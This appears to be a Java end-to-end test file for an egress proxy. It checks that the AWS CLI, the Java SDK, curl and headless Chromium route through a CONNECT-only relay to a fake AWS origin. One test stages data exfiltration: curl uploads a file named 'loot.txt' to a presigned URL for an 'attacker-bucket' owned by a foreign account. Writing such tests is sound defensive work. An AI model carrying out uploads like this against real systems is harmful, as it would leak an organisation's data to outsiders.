package io.sekisho.e2e;

import static io.sekisho.e2e.AwsIdentities.CORPORATE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.sts.StsClient;

/**
 * The {@code viaProxy} paths of every client helper, exercised through a CONNECT-only relay that
 * stands where Sekisho will: each client must reach the fake origin by AWS host name through the
 * proxy, never by resolving the name itself. TLS is end to end here, so clients trust the origin CA.
 */
@Timeout(value = 120, unit = TimeUnit.SECONDS)
class ViaProxyPlumbingTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    static Path tmp;
    static TestPki pki;
    static FakeAwsOrigin origin;
    static TunnelOnlyProxy proxy;

    @BeforeAll
    static void start() {
        pki = TestPki.create(tmp.resolve("pki"));
        origin = FakeAwsOrigin.start(pki);
        proxy = TunnelOnlyProxy.start(origin.resolvePatterns());
    }

    @AfterAll
    static void stop() {
        proxy.close();
        origin.close();
    }

    @BeforeEach
    void reset() {
        origin.clearRequests();
    }

    @Test
    void awsCliSendsS3AndStsThroughTheProxyByName() throws Exception {
        assumeTrue(AwsCli.available(), "the AWS CLI (aws) is not on PATH");
        AwsCli cli = AwsCli.viaProxy(tmp.resolve("cli"), pki.caPem(), proxy.port()).identity(AwsIdentities.longTerm(CORPORATE));
        Path file = Files.writeString(tmp.resolve("via-proxy.txt"), "through the tunnel");

        CommandResult upload = cli.run("s3", "cp", file.toString(), "s3://corp-data-bucket/via-proxy.txt");
        CommandResult identity = cli.run("sts", "get-caller-identity");

        assertThat(upload.succeeded()).as(upload.describe()).isTrue();
        assertThat(JSON.readTree(identity.stdout()).path("Account").asText()).as(identity.describe()).isEqualTo(CORPORATE);
        assertThat(proxy.connects()).contains("corp-data-bucket.s3.amazonaws.com:443").anyMatch(c -> c.startsWith("sts."));
        String secret = AwsIdentities.longTerm(CORPORATE).secretAccessKey();
        assertThat(origin.requests()).allSatisfy(r -> assertThat(SigV4Verifier.verify(r, secret).valid()).isTrue());
    }

    @Test
    void javaSdkUsesTheConfiguredProxy() {
        try (JavaSdk sdk = JavaSdk.viaProxy(proxy.port(), pki.caCertificate());
             StsClient sts = sdk.sts(AwsIdentities.longTerm(CORPORATE), Region.EU_WEST_1)) {
            assertThat(sts.getCallerIdentity().account()).isEqualTo(CORPORATE);
        }
        assertThat(proxy.connects()).contains("sts.eu-west-1.amazonaws.com:443");
    }

    @Test
    void curlUsesTheConfiguredProxy() {
        assumeTrue(Curl.available(), "curl is not installed");

        CommandResult result = Curl.viaProxy(tmp, pki.caPem(), proxy.port()).run("-o", "/dev/null", "-w", "%{http_code}",
                "https://corp.awsapps.com/start/");

        assertThat(result.stdout()).as(result.describe()).isEqualTo("200");
        assertThat(origin.requestsTo("corp.awsapps.com")).hasSize(1);
    }

    @Test
    void aPresignedPutFromTheSdkUploadsWithCurlThroughTheProxy() throws Exception {
        assumeTrue(Curl.available(), "curl is not installed");
        AwsIdentities.Identity foreign = AwsIdentities.longTerm(AwsIdentities.FOREIGN);
        String url;
        try (JavaSdk sdk = JavaSdk.viaProxy(proxy.port(), pki.caCertificate())) {
            url = sdk.presignPut(foreign, Region.US_EAST_1, "attacker-bucket", "loot.txt");
        }
        Path file = Files.writeString(tmp.resolve("loot.txt"), "exfiltrated");

        CommandResult result = Curl.viaProxy(tmp, pki.caPem(), proxy.port()).run("-o", "/dev/null", "-w", "%{http_code}",
                "-T", file.toString(), url);

        assertThat(result.stdout()).as(result.describe()).isEqualTo("200");
        RecordedRequest put = origin.lastRequest().orElseThrow();
        assertThat(put.query()).containsKey("X-Amz-Credential");
        assertThat(put.accessKeyId()).hasValue(foreign.accessKeyId());
        assertThat(SigV4Verifier.verify(put, foreign.secretAccessKey()).valid()).isTrue();
    }

    @Test
    void chromiumRunsTheCompanyConsoleFlowThroughTheProxy() {
        HeadlessChromium.assumeAvailable();
        try (HeadlessChromium browser = HeadlessChromium.builder(tmp.resolve("browser")).trustCa(pki.caPem())
                .proxy(proxy.port()).launch()) {
            PageResult page = browser.openUntil("https://corp.awsapps.com/start/?account=" + CORPORATE + "&role=ReadOnlyAccess",
                    p -> p.title().startsWith("AWS Console"));

            assertThat(page.title()).isEqualTo("AWS Console — account " + CORPORATE);
        }
        assertThat(proxy.connects()).contains("corp.awsapps.com:443", "portal.sso.eu-west-1.amazonaws.com:443",
                "eu-west-1.signin.aws.amazon.com:443", "eu-west-1.console.aws.amazon.com:443");
    }
}
